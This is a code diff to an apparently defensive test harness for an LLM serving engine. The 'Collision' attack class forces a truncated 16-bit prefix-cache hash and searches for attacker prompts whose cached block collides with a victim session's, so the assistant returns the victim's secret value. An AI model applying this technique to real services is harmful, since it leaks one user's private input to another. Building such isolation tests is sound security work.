@@ -12,19 +12,19 @@ import random
 from collections.abc import Sequence
 from itertools import zip_longest
 
+from engine.block_hash import hash_block
 from engine.config import EngineConfig
-from engine.prefix_cache import hash_block
 from engine.testbed.tasks import KEYS, VALUES
 from engine.tokenizer import Tokenizer
 from probe.isolation.result import CheckName
-from probe.replay.attacks.attack import WAVE, Ask, Case, CaseAttack, session
+from probe.replay.attacks.attack import TRIES, WAVE, Ask, Case, CaseAttack, Try, session
 from probe.replay.attacks.facts import Fact, draw_facts, next_turn, question, told
 
 BLOCK_SIZE = 16
 FACTS = 5  # <bos> and five facts of three tokens are one block
 HASH_BYTES = 2
-VICTIMS_PER_PAIR = 4
-TRIES_PER_BASE = 2000  # last facts tried with the same first four
+VICTIMS_PER_CASE = 4
+LAST_FACTS_PER_BASE = 2000  # last facts tried with the same first four
 
 
 class Collision(CaseAttack):
@@ -48,7 +48,7 @@ class Collision(CaseAttack):
         return ["--prefix-caching-hash-algo", "unsafe_truncated"]
 
     def cases(self, count: int, rng: random.Random) -> list[Case]:
-        """Pairs whose first blocks have the same 16 bits: victims first, attackers searched for."""
+        """Pairs whose first blocks have the same 16 bits; what collides is sent by TRIES sessions."""
         made: list[Case] = []
         while len(made) < count:
             key = rng.choice(KEYS)
@@ -56,35 +56,32 @@ class Collision(CaseAttack):
                 made.append(_case(str(len(made)), key, victim, attacker))
         return made
 
-    def tell(self, case: Case, answers: Sequence[str]) -> str:
+    def tell(self, case: Case, right: str, answer: str) -> str:
         """What the attacker got."""
-        if answers[1] != case.secret:
-            return f"Session B had told {case.right} and got {answers[1]}, computed from Session A's text."
+        if answer != case.secret:
+            return f"Session B had told {right} and got {answer}, computed from Session A's text."
         return (
-            f"Session B had told the assistant {case.right} and asked for it. It got {answers[1]}: what Session A, of "
-            f"whom it knows nothing, had told under the same name."
+            f"Session B had told the assistant {right} and asked for it. It got {answer}: what Session A, of whom it "
+            f"knows nothing, had told under the same name."
         )
 
     def _collisions(self, rng: random.Random, key: str, count: int) -> list[tuple[list[Fact], list[Fact]]]:
         """`count` pairs of a victim's facts and an attacker's: both tell `key`, with different values.
 
-        Any of several victims will do for the next attacker, so that one is found every few hundred tries.
+        There are more victims than are needed, and any of them will do: one is met every few hundred tries.
         """
-        victims: dict[bytes, list[Fact]] = {}
-        for _ in range(VICTIMS_PER_PAIR * count):
-            facts = draw_facts(rng, FACTS, (key, rng.choice(VALUES)))
-            victims[self.name_of(facts)] = facts
+        drawn = [draw_facts(rng, FACTS, (key, rng.choice(VALUES))) for _ in range(VICTIMS_PER_CASE * count)]
+        victims = {self.name_of(facts): facts for facts in drawn}
         found: list[tuple[list[Fact], list[Fact]]] = []
         while True:
             base = draw_facts(rng, FACTS - 1, (key, rng.choice(VALUES)))
             right = dict(base)[key]
             start = [self._bos, *self._tokens(base)]
-            for last in rng.sample(self._last_facts, TRIES_PER_BASE):
+            for last in rng.sample(self._last_facts, LAST_FACTS_PER_BASE):
                 name = self._name([*start, *self._tokens([last])])
                 if name not in victims or dict(victims[name])[key] == right or last[0] in dict(base):
                     continue
-                facts = victims.pop(name)
-                found.append((facts, [*base, last]))
+                found.append((victims.pop(name), [*base, last]))
                 if len(found) == count:
                     return found
 
@@ -103,14 +100,12 @@ class Collision(CaseAttack):
 
 def _case(name: str, key: str, victim: list[Fact], attacker: list[Fact]) -> Case:
     secret, right = dict(victim)[key], dict(attacker)[key]
-    asked = told(victim) + question(key)
-    other = next(k for k, _ in victim if k != key)
+    asked, text = told(victim) + question(key), told(attacker) + question(key)
     caller = session(f"a{name}")
-    follow_up = next_turn(asked, secret, other)
+    follow_up = next_turn(asked, secret, next(k for k, _ in victim if k != key))
     return Case(
         victim=Ask(asked, asked, caller),
-        attacker=Ask(told(attacker) + question(key), told(attacker) + question(key), session(f"b{name}")),
-        right=right,
-        secret=secret,
+        tries=tuple(Try(Ask(text, text, session(f"b{name}-{i}")), right) for i in range(TRIES)),
         follow_up=Ask(follow_up, follow_up, caller),
+        secret=secret,
     )
